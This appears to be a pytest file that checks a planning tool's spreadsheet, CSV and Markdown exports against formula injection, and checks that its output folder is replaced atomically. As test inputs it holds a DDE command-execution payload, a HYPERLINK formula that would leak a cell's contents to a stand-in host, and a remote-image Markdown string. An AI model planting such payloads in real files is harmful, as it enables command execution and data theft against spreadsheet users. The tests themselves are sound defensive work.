"""Exports under attack: names that a spreadsheet would run as formulas, and an export that fails or is
killed half-way.

Formulas: a plan whose scenario name, workload names and an offers-CSV sku are formulas is exported
every way there is (`plan --out`, `plan_to_excel`, the dashboard's downloads); in the workbooks every
formula (`<f>` and a table's `totalsRowFormula` in SpreadsheetML) is one of the workbook's own totals
(SUM of cell ranges, SUMIFS or SUMPRODUCT of ranges keyed on a cell, + - * of cells: no text, no other function)
and a text cell that starts with = + - @ tab or CR is a string cell holding the name as typed, with the quote
prefix that keeps it text when edited; in the CSV files no field starts so unless it is a number (an apostrophe marks it text).

Sets: `plan --out DIR` replaces the whole set or nothing. The old set is a 60-month plan, the new one a
12-month plan; after a failure or a SIGKILL the folder holds one of them byte for byte.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import pickle
import re
import signal
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from typer.testing import CliRunner

from fleetplan_dashboard import exports
from planner import load_scenario, plan
from planner.cli import app
from planner.reports import OUT_FILES, plan_to_excel, write_plan_files
from planner.reports.excel import SHEETS

ROOT = Path(__file__).resolve().parents[2]
WORKED = ROOT / "examples" / "worked-example.yaml"
OFFERS = ROOT / "examples" / "offers-g5-us-east-1.csv"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SCENARIO_NAME = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
# the last one: a bare CR ends a CSV row in a spreadsheet, so "=1+2" would start the next row
WORKLOAD_NAMES = ("=1+2", "+SUM(A1:A9)", "-2+3", "@cmd", "\tTAB", "\rCR", "x\r=1+2")
SKU = "=cmd|' /C calc'!A0"
ATTACKS = (SCENARIO_NAME, *WORKLOAD_NAMES, SKU)
IMAGE = "![x](http://127.0.0.1:9/x.png)"    # in a Markdown viewer, an image its browser would fetch
# the only formulas the workbook writes (its monthly and yearly totals): made of cell references, never text
_CELL = r"(?:[A-Za-z]+!)?\$?[A-Z]{1,3}\$?[0-9]+"
_RANGE = _CELL + r":\$?[A-Z]{1,3}\$?[0-9]+"
OWN_FORMULA = re.compile(rf"=?(?:SUM\({_RANGE}\)|SUMIFS\({_RANGE},{_RANGE},{_CELL}\)"
                         rf"|SUMPRODUCT\((?:\({_RANGE}={_CELL}\)\*1,)?{_RANGE},{_RANGE}\)|{_CELL}(?:[-+*]{_CELL})+)")


# ---------------------------------------------------------------------------------------------------
# Formula injection


def attack_scenario(folder: Path) -> Path:
    """The worked example as a YAML file in `folder`: formulas as scenario name, workload names and
    the sku of its offers CSV (written next to it)."""
    data = yaml.safe_load(WORKED.read_text())
    workload = data["workloads"][0]
    data["name"] = SCENARIO_NAME
    data["description"] = IMAGE
    data["workloads"] = [dict(workload, name=n, gpu_hours_per_month=200) for n in WORKLOAD_NAMES]
    (folder / "offers.csv").write_text(OFFERS.read_text().replace("g5.xlarge", SKU))
    data["prices"]["source"] = "offers.csv"
    path = folder / "attack.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    return path


def starts_a_formula(text: str) -> bool:
    if not text.startswith(TRIGGERS):
        return False
    try:
        float(text)
        return False
    except ValueError:
        return True


def check_workbook(data: bytes) -> set[str]:
    """Assert that every formula is one of the workbook's own totals (`OWN_FORMULA`) and every text cell
    that starts like one carries the quote prefix; return the text cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(SHEETS)
        for name in sheets + [n for n in zf.namelist() if n.startswith("xl/tables/")]:
            for formula in re.findall(rb"<(?:f|totalsRowFormula|calculatedColumnFormula)\b[^>]*>(.*?)</", zf.read(name)):
                assert OWN_FORMULA.fullmatch(formula.decode()), (name, formula)
    wb = load_workbook(io.BytesIO(data))
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert OWN_FORMULA.fullmatch(cell.value), (ws.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str):
                    assert cell.quotePrefix or not starts_a_formula(cell.value), (ws.title, cell.coordinate, cell.value)
                    texts.add(cell.value)
    return texts


def check_csv(text: str) -> list[list[str]]:
    """Assert that no field of CSV `text` starts a formula unless it is a number; return the rows."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for field in row:
            assert not starts_a_formula(field), (row, field)
    return rows


def fields(rows: list[list[str]]) -> set[str]:
    return {f for row in rows for f in row}


def shown(name: str) -> str:
    """How a CSV field holds `name`: marked as text with an apostrophe when it starts like a formula; a CR
    as a line break (the field is quoted across the break)."""
    return (("'" + name) if name.startswith(TRIGGERS) else name).replace("\r", "\n")


def typed(name: str) -> str:
    """How a workbook's string cell holds `name`: as typed (its format, not an apostrophe, marks it text),
    a CR as a line break (XML reads CR as LF)."""
    return name.replace("\r", "\n")


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    folder = tmp_path_factory.mktemp("attack")
    path = attack_scenario(folder)
    return path, plan(load_scenario(path))


def test_the_attack_plan_carries_the_formulas(attack):
    _, p = attack
    assert p.scenario_name == SCENARIO_NAME
    assert set(p.break_even["workload"]) == set(WORKLOAD_NAMES)
    assert SKU in set(p.fleet["sku"])


def test_plan_out_writes_no_formula_into_any_file(attack, tmp_path):
    path, _ = attack
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["plan", str(path), "--out", str(out), "--start", "2027-01"])
    assert result.exit_code == 0, result.output
    texts = check_workbook((out / "plan.xlsx").read_bytes())
    # the names are there, as typed
    for name in ATTACKS:
        assert typed(name) in texts, repr(name)
    for name in ("fleet.csv", "monthly.csv", "focus.csv"):
        check_csv((out / name).read_bytes().decode())
    focus = fields(check_csv((out / "focus.csv").read_bytes().decode()))
    assert {"'" + SCENARIO_NAME, "'" + SKU} <= focus
    assert "-625.0" in focus          # the residual credit stays a plain negative number
    assert "'" + SKU in fields(check_csv((out / "fleet.csv").read_bytes().decode()))


def test_numbers_stay_numbers_in_the_workbook(attack):
    _, p = attack
    wb = load_workbook(io.BytesIO(plan_to_excel(p)))
    summary = {r[0].value: r[1] for r in wb["summary"].iter_rows(min_row=2)}
    residual = summary["cost.residual_value"]
    assert residual.data_type == "n" and residual.value == -625   # −0.5 × 2,500 × (1 − 24/48), by hand
    assert summary["scenario"].data_type == "s" and summary["scenario"].value == SCENARIO_NAME
    assert summary["scenario"].quotePrefix


def test_library_and_dashboard_downloads_hold_no_formula(attack):
    _, p = attack
    check_workbook(plan_to_excel(p))
    check_workbook(exports.plan_xlsx(p))
    assert "'" + SKU in fields(check_csv(exports.plan_csv(p, "fleet")))
    with zipfile.ZipFile(io.BytesIO(exports.plan_csv_zip(p))) as zf:
        names = zf.namelist()
        assert len(names) == 12   # every table plan_to_csv writes
        seen = set().union(*(fields(check_csv(zf.read(n).decode())) for n in names))
    assert {shown(n) for n in WORKLOAD_NAMES} <= seen


def test_the_markdown_summary_shows_the_text_as_typed_and_no_image(attack):
    from markdown_it import MarkdownIt

    from planner.reports import plan_to_markdown

    _, p = attack
    html = MarkdownIt("commonmark").enable("table").render(plan_to_markdown(p))
    assert "<img" not in html
    assert f"<p>{IMAGE}</p>" in html
    assert "<td>=1+2</td>" in html and "<td>@cmd</td>" in html     # the break-even table's workloads


# ---------------------------------------------------------------------------------------------------
# The set of files of `plan --out DIR`


@pytest.fixture(scope="module")
def two_plans():
    """A 60-month and a 12-month plan of the worked example (their files differ)."""
    s = load_scenario(WORKED)
    return (plan(s, overrides={"horizon_months": 60}, baselines=False),
            plan(s, overrides={"horizon_months": 12}, baselines=False))


def raw(folder: Path) -> dict[str, bytes]:
    """Every file of `folder`, byte for byte."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def snapshot(folder: Path) -> dict[str, object]:
    """Every file of `folder`, byte for byte; the workbook as its parts, without docProps/core.xml and
    the zip's entry times, which say when it was written."""
    out: dict[str, object] = raw(folder)
    if "plan.xlsx" in out:
        with zipfile.ZipFile(io.BytesIO(out["plan.xlsx"])) as zf:
            out["plan.xlsx"] = {n: zf.read(n) for n in zf.namelist() if n != "docProps/core.xml"}
    return out


def test_a_failure_half_way_leaves_the_previous_set_byte_for_byte(two_plans, tmp_path, monkeypatch):
    old, new = two_plans
    out = tmp_path / "out"
    write_plan_files(old, out)
    before = raw(out)
    assert sorted(before) == sorted(OUT_FILES)
    real_fsync, calls = os.fsync, []

    def disk_full_on_the_fourth_file(fd):
        calls.append(fd)
        if len(calls) == 4:
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)
    monkeypatch.setattr(os, "fsync", disk_full_on_the_fourth_file)
    with pytest.raises(OSError, match="No space left"):
        write_plan_files(new, out)
    assert len(calls) == 4                      # three files were written before the disk filled up
    assert raw(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]     # no temporary folder, no .tmp file


def test_the_new_set_replaces_the_old_one_whole(two_plans, tmp_path):
    old, new = two_plans
    out = tmp_path / "out"
    write_plan_files(old, out)
    write_plan_files(new, out)
    assert snapshot(out) == snapshot(_fresh(new, tmp_path / "fresh"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fresh", "out"]


def _fresh(p, folder: Path) -> Path:
    write_plan_files(p, folder)
    return folder


def test_a_folder_with_other_files_is_refused_and_left_alone(two_plans, tmp_path):
    from planner.errors import PlannerError

    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    with pytest.raises(PlannerError, match="notes.txt"):
        write_plan_files(two_plans[0], out)
    assert raw(out) == {"notes.txt": b"mine"}


def test_a_folder_or_link_under_a_plan_files_name_is_refused_and_left_alone(two_plans, tmp_path):
    # the check went by names only: a folder plan.xlsx/ (and all it held) was deleted by the replacement
    from planner.errors import PlannerError

    out = tmp_path / "out"
    (out / "plan.xlsx" / "sub").mkdir(parents=True)
    (out / "plan.xlsx" / "keep.txt").write_text("precious")
    with pytest.raises(PlannerError, match=r"not a plan's \(plan\.xlsx/\)"):
        write_plan_files(two_plans[0], out)
    assert (out / "plan.xlsx" / "keep.txt").read_text() == "precious" and (out / "plan.xlsx" / "sub").is_dir()
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text("{}")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "plan.json").symlink_to(elsewhere)
    with pytest.raises(PlannerError, match=r"not a plan's \(plan\.json\)"):
        write_plan_files(two_plans[0], linked)
    assert (linked / "plan.json").is_symlink() and elsewhere.read_text() == "{}"


# The child writes the parent's 12-month plan (pickled) over the 60-month set, reporting each file
# flushed to the disk (os.fsync) on stdout and then waiting, so the parent can kill it between two files.
CHILD = textwrap.dedent("""
    import os, pickle, sys, time
    from pathlib import Path
    from planner.reports import write_plan_files

    p = pickle.loads(Path(sys.argv[1]).read_bytes())
    real_fsync = os.fsync

    def slow_fsync(fd):
        real_fsync(fd)
        print("flushed", flush=True)
        time.sleep(0.3)
    os.fsync = slow_fsync
    write_plan_files(p, sys.argv[2])
    print("done", flush=True)
""")


# six files, the temporary folder, then the parent folder after the swap: killed before and after the swap
@pytest.mark.parametrize("killed_after", [1, 3, 6, 7, 8])
def test_a_killed_export_leaves_the_old_set_or_the_new_set(two_plans, tmp_path, killed_after):
    old, new = two_plans
    out = tmp_path / "out"
    old_set = snapshot(_fresh(old, out))
    new_set = snapshot(_fresh(new, tmp_path / "expected"))
    assert old_set != new_set and sorted(old_set) == sorted(new_set) == sorted(OUT_FILES)
    (tmp_path / "plan.pickle").write_bytes(pickle.dumps(new))
    child = subprocess.Popen([sys.executable, "-c", CHILD, str(tmp_path / "plan.pickle"), str(out)], cwd=ROOT,
                             stdout=subprocess.PIPE, text=True)
    try:
        for _ in range(killed_after):
            assert child.stdout.readline() == "flushed\n"
        child.send_signal(signal.SIGKILL)
    finally:
        child.wait(timeout=60)
        child.stdout.close()
    assert child.returncode == -signal.SIGKILL
    assert snapshot(out) in (old_set, new_set)
    # the next export removes what the killed one left next to the folder
    write_plan_files(new, out)
    assert snapshot(out) == new_set
    assert sorted(p.name for p in tmp_path.iterdir()) == ["expected", "out", "plan.pickle"]


def test_without_an_atomic_exchange_the_set_is_still_replaced_whole_or_not_at_all(two_plans, tmp_path, monkeypatch):
    # Systems without renameat2 (macOS, Windows, some file systems) move the old folder aside first.
    import planner.fileio

    old, new = two_plans
    out = tmp_path / "out"
    write_plan_files(old, out)
    before = raw(out)
    monkeypatch.setattr(planner.fileio, "_exchange", lambda a, b: False)
    real_rename, calls = os.rename, []

    def second_rename_fails(src, dst):
        calls.append((src, dst))
        if len(calls) == 2:           # the old folder is aside, the new one cannot take its place
            raise OSError(errno.EIO, "Input/output error")
        real_rename(src, dst)
    monkeypatch.setattr(os, "rename", second_rename_fails)
    with pytest.raises(OSError, match="Input/output"):
        write_plan_files(new, out)
    assert raw(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    monkeypatch.setattr(os, "rename", real_rename)
    write_plan_files(new, out)
    assert snapshot(out) == snapshot(_fresh(new, tmp_path / "fresh"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fresh", "out"]


@pytest.mark.parametrize(("source", "kept_chars"), [
    # 40,000 ASCII characters: the note " … [cut: 40,000 characters, more than a cell holds]" is 51 UTF-16
    # units (1 + 1 + 1 + 5 + 1 + 6 + 1 + 11 + 1 + 4 + 1 + 4 + 1 + 1 + 1 + 4 + 1 + 6), so 32,767 − 51 = 32,716
    # characters are kept
    ("x" * 40_000, 32_716),
    # 20,000 emoji are 40,000 UTF-16 units (two each): (32,767 − 51) / 2 = 16,358 whole emoji fit
    ("\U0001F600" * 20_000, 16_358),
])
def test_a_text_cell_longer_than_a_workbook_cell_says_it_was_cut(tmp_path, source, kept_chars):
    import openpyxl

    from planner.cli import app as cli_app
    offers_csv = Path(__file__).resolve().parents[2] / "examples" / "offers-g5-us-east-1.csv"
    lines = offers_csv.read_text(encoding="utf-8").splitlines()
    header, row = lines[0], next(line for line in lines[1:] if ":g5.xlarge:on_demand" in line)
    cells = next(csv.reader([row]))
    cells[header.split(",").index("source")] = source
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    (tmp_path / "o.csv").write_text(header + "\n" + out.getvalue(), encoding="utf-8")
    (tmp_path / "s.yaml").write_text(textwrap.dedent(f"""\
        name: long source
        prices: {{source: {tmp_path / 'o.csv'}}}
        workloads:
          - {{name: w, gpu_hours_per_month: 100, reference_gpu: A10G}}
        """), encoding="utf-8")
    from typer.testing import CliRunner
    result = CliRunner().invoke(cli_app, ["plan", str(tmp_path / "s.yaml"), "--no-baselines", "--no-decisions",
                                          "--format", "xlsx", "-o", str(tmp_path / "p.xlsx")])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(tmp_path / "p.xlsx")["prices used"]
    texts = [c.value for r in sheet.iter_rows() for c in r if isinstance(c.value, str) and len(c.value) > 1000]
    note = f" … [cut: {len(source):,} characters, more than a cell holds]"
    assert texts == [source[:kept_chars] + note]
    assert len(texts[0].encode("utf-16-le")) // 2 <= 32_767
